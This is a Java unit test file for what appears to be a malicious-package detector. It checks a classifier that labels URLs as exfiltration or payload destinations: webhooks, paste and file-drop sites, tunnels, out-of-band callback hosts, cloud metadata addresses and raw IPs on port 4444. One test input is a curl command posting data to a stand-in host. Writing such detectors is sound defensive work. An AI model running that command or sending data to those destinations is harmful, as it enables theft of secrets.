package io.pypiguard.behavior.internal.knowledge;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class DestinationsTest {

  @ParameterizedTest
  @CsvSource({
    "https://discord.com/api/webhooks/1/x, webhook",
    "https://canary.discord.com/api/v9/webhooks/1/x, webhook",
    "https://discord.com/developers, well-known",
    "https://discord.com/api/v10/users/@me, messenger-api",
    "https://api.telegram.org/bot{}/sendMessage, webhook",
    "https://telegram.org/faq, well-known",
    "https://hooks.slack.com/services/{}, webhook",
    "https://pastebin.com/raw/x, paste",
    "https://transfer.sh, file-drop",
    "https://cdn.discordapp.com/attachments/1/2/x.exe, file-drop",
    "https://raw.githubusercontent.com/a/b/main/c.py, code-host-raw",
    "https://github.com/a/b/raw/main/c.exe, code-host-raw",
    "https://github.com/a/b, well-known",
    "https://github.com/a/b/releases/download/v1/x.whl, code-host-release",
    "https://{}.ngrok.io/x, tunnel",
    "https://a.b.trycloudflare.com, tunnel",
    "https://notngrok.io/x, unknown",
    "https://ngrok.io.example-host.com/, unknown",
    "http://{}.oast.fun, out-of-band",
    "http://x.burpcollaborator.net, out-of-band",
    "http://x.duckdns.org, dynamic-dns",
    "https://bit.ly/x, shortener",
    "https://api.ipify.org?format=json, address-lookup",
    "https://a.repl.co, free-hosting",
    "http://name.tk/x, free-domain",
    "http://abcdef.onion, onion",
    "https://pypi.org/simple, package-index",
    "https://huggingface.co/a/b, well-known",
    "https://evil.pypi.org.example-host.com, unknown",
    "https://example.com/x, local",
    "http://localhost:5000, local",
    "http://169.254.169.254/latest/meta-data/, cloud-metadata",
    "http://45.67.89.10/x, raw-ip",
    "http://45.67.{}.{}/x, raw-ip",
    "http://{}/x, unknown",
    "http://{}:{}/x, unknown",
    "http://192.168.{}.{}/x, local",
    "http://192.168.1.1/x, local",
    "http://172.16.0.1/x, local",
    "http://172.32.0.1/x, raw-ip",
    "http://0x2d43590a/x, raw-ip",
    "http://759388426/x, raw-ip",
    "http://0x7f.0.0.1/, local",
    "http://[2606:4700::1111]/x, raw-ip",
    "http://[::1]:80/x, local",
    "http://[2001:db8::1]/x, local",
    "https://user:pw@PasteBin.com./raw, paste",
    "8.8.8.8, name-server",
    "45.67.89.10:4444, raw-ip",
    "localhost, local",
    "evil-host.net, unknown",
    "webhook.site/x, out-of-band"
  })
  void aDestinationIsOfAClass(String text, String kind) {
    assertThat(Destinations.of(text))
        .hasValueSatisfying(destination -> assertThat(destination.classes()).contains(kind));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "  ",
        "://",
        "http://",
        "http:///x",
        "hello",
        "see the docs.",
        "1.2.3",
        "12",
        "{}",
        "http://[zz]/",
        "a b.com"
      })
  void whatIsNoDestinationGivesNone(String text) {
    assertThat(Destinations.of(text)).isEmpty();
  }

  @Test
  void aPortThatNothingCommonListensOnIsSaid() {
    assertThat(Destinations.of("http://45.67.89.10:4444/x"))
        .hasValueSatisfying(
            destination -> assertThat(destination.classes()).containsExactly("raw-ip", "odd-port"));
    assertThat(Destinations.of("http://45.67.89.10:8080/x"))
        .hasValueSatisfying(
            destination -> assertThat(destination.classes()).containsExactly("raw-ip"));
    assertThat(Destinations.of("http://127.0.0.1:4444/x"))
        .hasValueSatisfying(
            destination -> assertThat(destination.classes()).containsExactly("local"));
  }

  @Test
  void allDestinationsOfATextAreFound() {
    List<Destination> all =
        Destinations.all(
            "curl -d @- 'https://a.example-host.net/x' || curl transfer.sh/y; wget pypi.org setup.py");
    assertThat(all)
        .extracting(Destination::host)
        .containsExactly("a.example-host.net", "transfer.sh");
    assertThat(all).extracting(Destination::text).contains("https://a.example-host.net/x");
  }
}
